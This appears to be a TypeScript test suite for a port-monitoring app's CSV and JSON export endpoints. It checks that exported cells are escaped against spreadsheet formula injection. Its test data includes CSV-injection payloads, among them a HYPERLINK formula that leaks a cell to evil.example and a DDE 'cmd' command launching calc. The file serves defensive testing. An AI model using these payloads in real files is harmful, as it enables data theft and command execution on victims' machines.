import assert from "node:assert/strict";
import test, { after, before } from "node:test";
import { listener, process } from "../support/listener.ts";
import { Lookout } from "../support/lookout.ts";
import { openWorld, type World } from "./world.ts";

const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd",
  "@SUM(1+1)*cmd",
  "＝1+1",
  "＋1",
  "－1+1",
  "＠SUM(1)",
  " =1+1",
  'quote"comma,',
  "中文 процесс",
];
const portsHeld = 2_500;

let world: World;
before(async () => {
  world = await openWorld();
  const lookout = new Lookout();
  const listeners = Array.from({ length: portsHeld }, (_, index) => {
    const name = hostile[index % hostile.length] as string;
    const executablePath = `/opt/app-${index}`;
    const holder = process(index + 2, name, { executablePath, commandLine: name, unit: null });
    return listener({ port: 10_000 + index }, [holder]);
  });
  assert.equal((await world.tokens.intake.post("/intake", lookout.full([]))).status, 200);
  const answer = await world.tokens.intake.post("/intake", lookout.full(listeners));
  assert.equal(answer.status, 200, await answer.clone().text());
});
after(() => world.close());

/** RFC 4180. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = "";
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at] as string;
    if (quoted) {
      if (character !== '"') cell += character;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else quoted = false;
    } else if (character === '"') quoted = true;
    else if (character === ",") {
      rows.at(-1)?.push(cell);
      cell = "";
    } else if (character === "\r") {
      rows.at(-1)?.push(cell);
      cell = "";
      at += 1;
      rows.push([]);
    } else cell += character;
  }
  rows.pop();
  return rows;
}

test("I12 no cell of an export begins a formula, every row is there, numbers are numbers", async () => {
  for (const path of ["/ports/export?format=csv&sort=port", "/events/export?format=csv"]) {
    const response = await world.people.viewer.get(path);
    assert.equal(response.status, 200);
    assert.match(response.headers.get("content-type") ?? "", /^text\/csv; charset=utf-8/);
    assert.match(
      response.headers.get("content-disposition") ?? "",
      /^attachment; filename="portolan-(ports|events)-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const bytes = Buffer.from(await response.arrayBuffer());
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], "byte order mark");
    const [header = [], ...rows] = parseCsv(bytes.toString("utf8").slice(1));
    assert.equal(rows.length, portsHeld, path);
    const port = header.indexOf("port");
    for (const row of rows) {
      assert.equal(row.length, header.length);
      assert.match(row[port] ?? "", /^\d+$/);
      for (const cell of row) assert.doesNotMatch(cell, /^[\s]*[=+\-@＝＋－＠]/, cell);
    }
  }
});

test("I12 the text behind the apostrophe is whole", async () => {
  const text = await (await world.people.viewer.get("/ports/export?format=csv&sort=port")).text();
  const [header = [], ...rows] = parseCsv(text.replace("\ufeff", ""));
  const user = header.indexOf("user");
  const found = rows.slice(0, hostile.length).map((row) => (row[user] ?? "").replace(/^'/, "").trim());
  assert.deepEqual(
    found,
    hostile.map((name) => name.trim()),
  );
});

test("the JSON export is one array of the same rows as the list", async () => {
  const response = await world.people.viewer.get("/ports/export?format=json&sort=port");
  const rows = (await response.json()) as { port: number }[];
  assert.equal(rows.length, portsHeld);
  const list = await world.people.viewer.json<{ rows: unknown[] }>("/ports?sort=port&limit=1000");
  assert.deepEqual(rows.slice(0, 1_000), list.rows);
  assert.deepEqual(await (await world.people.viewer.get("/ports/export?format=json&port=1")).json(), []);
});

test("a filter holds for the export too, and a wrong one is a problem, not a file", async () => {
  const text = await (await world.people.viewer.get("/ports/export?format=csv&port=10000-10009")).text();
  assert.equal(parseCsv(text).length, 11);
  const wrong = await world.people.viewer.get("/ports/export?format=xlsx");
  assert.equal(wrong.status, 400);
  assert.equal(wrong.headers.get("content-disposition"), null);
});

test("an export that nobody reads on holds no place for ever", async () => {
  for (let round = 0; round < 12; round += 1) {
    const abort = new AbortController();
    const response = await world.people.viewer.request("GET", "/api/v1/ports/export?format=json", undefined, {
      signal: abort.signal,
    });
    assert.equal(response.status, 200, `round ${round}`);
    await response.body?.getReader().read();
    abort.abort();
    await new Promise((resolve) => setTimeout(resolve, 30));
  }
  assert.equal(world.server.state.exports.inside, 0);
});
